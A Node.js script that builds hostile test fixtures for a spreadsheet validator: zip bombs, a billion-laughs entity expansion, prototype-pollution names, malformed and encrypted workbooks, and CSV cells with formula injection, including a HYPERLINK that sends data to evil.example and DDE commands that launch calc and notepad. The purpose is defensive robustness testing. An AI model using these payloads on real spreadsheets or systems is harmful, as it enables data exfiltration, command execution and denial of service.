// Crafts fixtures/hostile/: zip bombs, whole-sheet merges, huge defined names, __proto__ names, broken XML, fake and encrypted workbooks, formula-led CSV cells.
//
// Usage: node scripts/make-hostile.mjs   (npm run hostile)
//
// Every file is written byte by byte here (zip containers by hand, deflateRaw from node:zlib), so the
// output is deterministic and small enough to commit. fixtures/hostile/README.md lists what each file is
// and what fupin must answer. A 50 MB single-line CSV is too big to commit: test/e2e/hostile.test.ts makes it.

import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import zlib from 'node:zlib';
import { zip } from './lib/zip.mjs';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const OUT = join(ROOT, 'fixtures', 'hostile');

/** deflateRaw of prefix + `count` copies of `unit` + suffix, streamed so gigabytes never sit in memory. */
async function deflateHuge(prefix, unit, count, suffix) {
  const chunk = Buffer.alloc(16 * 1024 * 1024, unit);
  const deflate = zlib.createDeflateRaw({ level: 9 });
  const parts = [];
  deflate.on('data', (d) => parts.push(d));
  const done = new Promise((res, rej) => {
    deflate.on('end', res);
    deflate.on('error', rej);
  });
  let crc = zlib.crc32(prefix);
  const write = (buf) =>
    new Promise((res) => {
      if (deflate.write(buf)) res();
      else deflate.once('drain', res);
    });
  await write(prefix);
  let left = count;
  while (left > 0) {
    const piece = left >= chunk.length ? chunk : chunk.subarray(0, left);
    crc = zlib.crc32(piece, crc);
    await write(piece);
    left -= piece.length;
  }
  crc = zlib.crc32(suffix, crc);
  await write(suffix);
  deflate.end();
  await done;
  return { compressed: Buffer.concat(parts), crc, size: prefix.length + count + suffix.length };
}

// ── xlsx parts ───────────────────────────────────────────────────────────────────────────────

const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const NS_R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const esc = (s) => String(s).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

function contentTypes(sheetCount, { sst = false } = {}) {
  const sheets = Array.from(
    { length: sheetCount },
    (_, i) => `<Override PartName="/xl/worksheets/sheet${i + 1}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`,
  ).join('');
  return Buffer.from(
    `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>${sheets}${sst ? '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>' : ''}</Types>`,
  );
}
const ROOT_RELS = Buffer.from(
  `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
);
function workbookRels(sheetCount, { sst = false } = {}) {
  const rels = Array.from(
    { length: sheetCount },
    (_, i) => `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`,
  ).join('');
  const s = sst ? `<Relationship Id="rId${sheetCount + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>` : '';
  return Buffer.from(`${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}${s}</Relationships>`);
}
function workbookXml(names, definedNames = '') {
  const sheets = names.map((n, i) => `<sheet name="${esc(n)}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('');
  return Buffer.from(`${XML}<workbook xmlns="${NS}" xmlns:r="${NS_R}"><sheets>${sheets}</sheets>${definedNames}</workbook>`);
}

const LETTERS = 'ABCDEFG';
/** A small valid register as inline-string cells: title, header, `rows` pairings, footer. */
function registerRows(rows = 5) {
  const out = [['县市区慈善组织精准扶贫结对帮扶登记表'], ['填报单位：溆浦县慈善会'], ['序号', '扶贫单位或者机构名称', '扶贫户主姓名', '扶贫家庭住址', '联系方式']];
  const names = ['张建国', '李秀英', '王桂兰', '刘德福', '陈玉梅', '杨国荣', '赵春梅', '黄志宏'];
  for (let i = 0; i < rows; i++) {
    out.push([String(i + 1), '溆浦县慈善会', names[i % names.length], `溆浦县卢峰镇红星村${i + 1}组`, `139${String(10_000_000 + i * 7919).padStart(8, '0')}`]);
  }
  out.push(['备注：此统计表属结对帮卡对应登记统计，由县市区慈善办填写，上报市级、存档各一份。']);
  return out;
}
function sheetXml(grid, { merges = '', prefix = '', cellRef } = {}) {
  const p = prefix ? `${prefix}:` : '';
  const rows = grid
    .map((row, r) => {
      const cells = row
        .map((v, c) => {
          const ref = cellRef?.(r, c) ?? `${LETTERS[c]}${r + 1}`;
          return `<${p}c r="${ref}" t="inlineStr"><${p}is><${p}t>${esc(v)}</${p}t></${p}is></${p}c>`;
        })
        .join('');
      return `<${p}row r="${r + 1}">${cells}</${p}row>`;
    })
    .join('');
  const xmlns = prefix ? `xmlns:${prefix}="${NS}"` : `xmlns="${NS}"`;
  return Buffer.from(`${XML}<${p}worksheet ${xmlns}><${p}sheetData>${rows}</${p}sheetData>${merges}</${p}worksheet>`);
}
function xlsx({ names = ['Sheet1'], sheets, definedNames = '', extra = [] }) {
  return zip([
    { name: '[Content_Types].xml', data: contentTypes(names.length, { sst: extra.some((e) => e.name === 'xl/sharedStrings.xml') }) },
    { name: '_rels/.rels', data: ROOT_RELS },
    { name: 'xl/workbook.xml', data: workbookXml(names, definedNames) },
    { name: 'xl/_rels/workbook.xml.rels', data: workbookRels(names.length, { sst: extra.some((e) => e.name === 'xl/sharedStrings.xml') }) },
    ...sheets.map((data, i) => ({ name: `xl/worksheets/sheet${i + 1}.xml`, data })),
    ...extra,
  ]);
}

// ── OLE2 (compound file) with an EncryptionInfo stream: how Excel stores a password-protected xlsx ──

function encryptedWorkbook() {
  const SECTOR = 512;
  const streamSectors = 8; // 4096 bytes each: at the mini-stream cutoff, so both live in regular sectors
  const total = 2 + 2 * streamSectors;
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x3e, 24); // minor version
  header.writeUInt16LE(3, 26); // major version 3: 512-byte sectors
  header.writeUInt16LE(0xfffe, 28); // byte order
  header.writeUInt16LE(9, 30); // sector shift
  header.writeUInt16LE(6, 32); // mini sector shift
  header.writeUInt32LE(1, 44); // FAT sectors
  header.writeUInt32LE(1, 48); // first directory sector
  header.writeUInt32LE(4096, 56); // mini stream cutoff
  header.writeUInt32LE(0xfffffffe, 60); // no mini FAT
  header.writeUInt32LE(0xfffffffe, 68); // no DIFAT sectors
  header.writeUInt32LE(0, 76); // DIFAT[0] = sector 0 holds the FAT
  for (let i = 1; i < 109; i++) header.writeUInt32LE(0xffffffff, 76 + i * 4);
  const fat = Buffer.alloc(SECTOR, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0); // sector 0: the FAT itself
  fat.writeUInt32LE(0xfffffffe, 4); // sector 1: directory, end of chain
  for (let s = 2; s < total; s++) {
    const last = s === 2 + streamSectors - 1 || s === total - 1;
    fat.writeUInt32LE(last ? 0xfffffffe : s + 1, s * 4);
  }
  const dir = Buffer.alloc(SECTOR);
  const entry = (i, name, type, { child = 0xffffffff, left = 0xffffffff, right = 0xffffffff, start = 0xfffffffe, size = 0 } = {}) => {
    const o = i * 128;
    const n = Buffer.from(`${name}\0`, 'utf16le');
    n.copy(dir, o);
    dir.writeUInt16LE(n.length, o + 64);
    dir.writeUInt8(type, o + 66);
    dir.writeUInt8(1, o + 67); // black
    dir.writeUInt32LE(left, o + 68);
    dir.writeUInt32LE(right, o + 72);
    dir.writeUInt32LE(child, o + 76);
    dir.writeUInt32LE(start, o + 116);
    dir.writeUInt32LE(size, o + 120);
  };
  entry(0, 'Root Entry', 5, { child: 1 });
  entry(1, 'EncryptionInfo', 2, { right: 2, start: 2, size: 4096 });
  entry(2, 'EncryptedPackage', 2, { start: 2 + streamSectors, size: 4096 });
  for (let i = 3; i < 4; i++) {
    dir.writeUInt32LE(0xffffffff, i * 128 + 68);
    dir.writeUInt32LE(0xffffffff, i * 128 + 72);
    dir.writeUInt32LE(0xffffffff, i * 128 + 76);
  }
  const info = Buffer.alloc(4096);
  info.writeUInt16LE(4, 0); // agile encryption, version 4.4
  info.writeUInt16LE(4, 2);
  info.writeUInt32LE(0x40, 4);
  Buffer.from('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>').copy(info, 8);
  const pkg = Buffer.alloc(4096, 0x5a);
  pkg.writeUInt32LE(4000, 0);
  return Buffer.concat([header, fat, dir, info, pkg]);
}

// ── the files ───────────────────────────────────────────────────────────────────────────────

const files = [];
function put(name, buf, what) {
  writeFileSync(join(OUT, name), buf);
  files.push({ name, bytes: buf.length, what });
}

async function main() {
  rmSync(OUT, { recursive: true, force: true });
  mkdirSync(OUT, { recursive: true });
  const reg = registerRows(5);

  // 1. shared-string zip bomb: one <si> of 1 GiB of "A", about 1 MB compressed
  {
    const bomb = await deflateHuge(Buffer.from(`${XML}<sst xmlns="${NS}" count="1" uniqueCount="1"><si><t>`), 0x41, 1024 * 1024 * 1024, Buffer.from('</t></si></sst>'));
    const sheet = Buffer.from(`${XML}<worksheet xmlns="${NS}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>`);
    put('zip-bomb-shared-strings.xlsx', xlsx({ sheets: [sheet], extra: [{ name: 'xl/sharedStrings.xml', raw: bomb }] }), `shared strings expanding to ${bomb.size} bytes`);
  }
  // 2. overlapping zip bomb: 8 worksheets whose central-directory entries all point at one 256 MiB stream
  {
    const prefix = Buffer.from(`${XML}<worksheet xmlns="${NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>`);
    const bomb = await deflateHuge(prefix, 0x42, 256 * 1024 * 1024, Buffer.from('</t></is></c></row></sheetData></worksheet>'));
    const names = Array.from({ length: 8 }, (_, i) => `Sheet${i + 1}`);
    const buf = zip([
      { name: '[Content_Types].xml', data: contentTypes(8) },
      { name: '_rels/.rels', data: ROOT_RELS },
      { name: 'xl/workbook.xml', data: workbookXml(names) },
      { name: 'xl/_rels/workbook.xml.rels', data: workbookRels(8) },
      { name: 'xl/worksheets/sheet1.xml', raw: bomb },
      ...names.slice(1).map((_, i) => ({ name: `xl/worksheets/sheet${i + 2}.xml`, alias: 'xl/worksheets/sheet1.xml' })),
    ]);
    put('zip-bomb-overlap.xlsx', buf, `8 sheets sharing one stream: ${8 * bomb.size} bytes in all`);
  }
  // 3. a merge over the whole sheet
  put('merge-whole-sheet.xlsx', xlsx({ sheets: [sheetXml(reg, { merges: '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>' })] }), 'a register with the merge A1:XFD1048576');
  // 4. defined names over 100,000 rows and over the whole sheet
  put(
    'defined-name-huge.xlsx',
    xlsx({
      sheets: [sheetXml(reg)],
      definedNames:
        '<definedNames><definedName name="_xlnm.Print_Area" localSheetId="0">Sheet1!$A$1:$XFD$1048576</definedName><definedName name="big">Sheet1!$A$1:$E$200000</definedName><definedName name="__proto__">Sheet1!$A$1:$E$150000</definedName></definedNames>',
    }),
    'defined names covering 200,000 rows and the whole sheet',
  );
  // 5. __proto__ / constructor sheet names, cell references and headers
  {
    const protoHeader = [...reg];
    protoHeader[2] = [...reg[2], '__proto__', 'constructor'];
    for (let r = 3; r < 8; r++) protoHeader[r] = [...reg[r], '{"polluted":true}', 'prototype'];
    const withRefs = sheetXml([['__proto__', 'constructor'], ['x', 'y']], { cellRef: (r, c) => (r === 0 && c === 0 ? '__proto__' : r === 0 && c === 1 ? 'constructor' : `${LETTERS[c]}${r + 1}`) });
    put(
      'proto-names.xlsx',
      xlsx({
        names: ['__proto__', 'constructor', 'prototype'],
        sheets: [sheetXml(protoHeader), withRefs, sheetXml([['hasOwnProperty', 'toString'], ['__proto__', 'valueOf']])],
        definedNames: '<definedNames><definedName name="__proto__">__proto__!$A$1</definedName><definedName name="constructor">constructor!$A$1:$B$2</definedName></definedNames>',
      }),
      'sheets named __proto__/constructor/prototype, a cell whose reference is __proto__, __proto__ headers',
    );
  }
  // 6. malformed XML: an unclosed element, an undefined entity, an attribute without quotes
  put(
    'malformed-xml.xlsx',
    xlsx({ sheets: [Buffer.from(`${XML}<worksheet xmlns="${NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>序号 &undefined;</t></is></c><c r=B1 t="inlineStr"><is><t>扶贫`)] }),
    'worksheet XML cut off mid-element, with an undefined entity',
  );
  // 7. XML with an entity expansion (billion laughs) in the shared strings
  {
    let ents = '<!ENTITY a0 "lol">';
    for (let i = 1; i <= 9; i++) ents += `<!ENTITY a${i} "${`&a${i - 1};`.repeat(10)}">`;
    const sst = Buffer.from(`<?xml version="1.0"?><!DOCTYPE sst [${ents}]><sst xmlns="${NS}" count="1" uniqueCount="1"><si><t>&a9;</t></si></sst>`);
    const sheet = Buffer.from(`${XML}<worksheet xmlns="${NS}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>`);
    put('billion-laughs.xlsx', xlsx({ sheets: [sheet], extra: [{ name: 'xl/sharedStrings.xml', data: sst }] }), 'a DOCTYPE whose entities expand to 3 GB');
  }
  // 8. a fake .ods: the OpenDocument mimetype, then garbage
  put(
    'fake.ods',
    zip([
      { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), method: 0 },
      { name: 'content.xml', data: Buffer.from('\u0000\u0001garbage, not XML \u00ff'.repeat(20), 'latin1') },
    ]),
    'a zip with the ODS mimetype and garbage content',
  );
  // 9. an encrypted workbook (OLE2 with EncryptionInfo and EncryptedPackage streams)
  put('encrypted.xlsx', encryptedWorkbook(), 'password-protected workbook: OLE2 container with EncryptionInfo');
  // 10. prefixed namespaces, as .NET's OpenXML SDK writes them: a real register, to be read
  {
    const wb = Buffer.from(`${XML}<x:workbook xmlns:x="${NS}" xmlns:r="${NS_R}"><x:sheets><x:sheet name="Sheet1" sheetId="1" r:id="rId1"/></x:sheets></x:workbook>`);
    put(
      'prefixed-namespaces.xlsx',
      zip([
        { name: '[Content_Types].xml', data: contentTypes(1) },
        { name: '_rels/.rels', data: ROOT_RELS },
        { name: 'xl/workbook.xml', data: wb },
        { name: 'xl/_rels/workbook.xml.rels', data: workbookRels(1) },
        { name: 'xl/worksheets/sheet1.xml', data: sheetXml(reg, { prefix: 'x' }) },
      ]),
      'a 5-row register with x:-prefixed SpreadsheetML (OpenXML SDK style)',
    );
  }
  // 11. truncated zip: the first 60% of a valid workbook
  {
    const ok = xlsx({ sheets: [sheetXml(registerRows(40))] });
    put('truncated.xlsx', ok.subarray(0, Math.floor(ok.length * 0.6)), 'a workbook cut off at 60%');
  }

  // ── CSV ──
  const csvReg = (rows) => rows.map((r) => r.map((v) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\r\n') + '\r\n';
  // 12. formula-led cells: must come out of every writer as inert text
  {
    const rows = [
      ['序号', '扶贫单位或者机构名称', '扶贫户主姓名', '扶贫家庭住址', '联系方式'],
      ['1', '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', '张建国', '溆浦县卢峰镇红星村1组', '13912345678'],
      ['2', '溆浦县慈善会', '@SUM(1+1)*cmd|\' /C calc\'!A0', '溆浦县卢峰镇红星村2组', '13912345679'],
      ['3', '溆浦县慈善会', '李秀英', '+1', '-1'],
      ['4', '溆浦县慈善会', '王桂兰', '\t=1+2', '\r=3+4'],
      ['5', '-2+3', '刘德福', '=cmd|\' /C notepad\'!A1', '0745-3221234'],
    ];
    put('formula-cells.csv', Buffer.from(`\ufeff${csvReg(rows)}`), 'cells starting with = @ + - tab CR');
  }
  const header = '序号,扶贫单位或者机构名称,扶贫户主姓名,扶贫家庭住址,联系方式';
  const line = (i) => `${i},溆浦县慈善会,张${'建国秀英桂兰德福'[i % 8]}${'一二三四五六七八九十'[i % 10]},溆浦县卢峰镇红星村${i}组,139${String(20_000_000 + i).padStart(8, '0')}`;
  // 13. an unclosed quote on line 4
  put('unclosed-quote.csv', Buffer.from([header, line(1), line(2), '3,"溆浦县慈善会,陈玉梅,溆浦县卢峰镇红星村3组,13900000003', line(4), line(5)].join('\r\n') + '\r\n'), 'a quote opened on line 4 and never closed');
  // 14. NUL bytes after the first 8 KB (the sniffer's window), and within it in another file
  {
    const body = Array.from({ length: 150 }, (_, i) => line(i + 1));
    body[120] = body[120].replace('溆浦县慈善会', '溆浦县\u0000慈善会');
    put('nul-late.csv', Buffer.from([header, ...body].join('\r\n') + '\r\n'), 'NUL characters on line 122 (past the first 8 KB)');
    put('nul-early.csv', Buffer.from([header, line(1).replace('张', '\u0000\u0000'), line(2)].join('\r\n') + '\r\n'), 'NUL characters on line 2');
  }
  // 15. mixed line endings and ragged rows
  put('mixed-eol.csv', Buffer.from(`${header}\r\n${line(1)}\n${line(2)}\r${line(3)}\r\n${line(4)}\n`), 'CRLF, LF and CR line ends in one file');
  put('ragged.csv', Buffer.from([header, line(1), '2,溆浦县慈善会,李秀英', `${line(3)},多余,的,格子`, '4', line(5)].join('\r\n') + '\r\n'), 'rows of 3, 9 and 1 cells under a 5-column header');
  // 16. a cell over 32,767 characters
  put('long-cell.csv', Buffer.from([header, line(1), `2,溆浦县慈善会,李秀英,${'长'.repeat(40_000)},13900000002`].join('\r\n') + '\r\n'), 'a 40,000-character address on line 3');
  // 17. a __proto__ header in a CSV
  put('proto-header.csv', Buffer.from([`${header},__proto__,constructor,hasOwnProperty`, `${line(1)},{"polluted":1},x,y`, `${line(2)},a,b,c`].join('\r\n') + '\r\n'), '__proto__/constructor/hasOwnProperty as extra column headers');

  const readme = [
    '# Hostile and broken input',
    '',
    'Made by `npm run hostile` (scripts/make-hostile.mjs); do not edit by hand. `fupin validate fixtures/hostile`',
    'must answer every file — a result or a clear refusal — in one call, under 30 s and 1 GiB, with no stack trace',
    '(test/e2e/hostile.test.ts, which also adds a 50 MB single-line CSV made at test time).',
    '',
    '| file | bytes | what it is |',
    '|---|---|---|',
    ...files.map((f) => `| ${f.name} | ${f.bytes} | ${f.what} |`),
    '',
  ].join('\n');
  writeFileSync(join(OUT, 'README.md'), readme);
  for (const f of files) console.log(`${String(f.bytes).padStart(9)}  ${f.name}`);
}

await main();
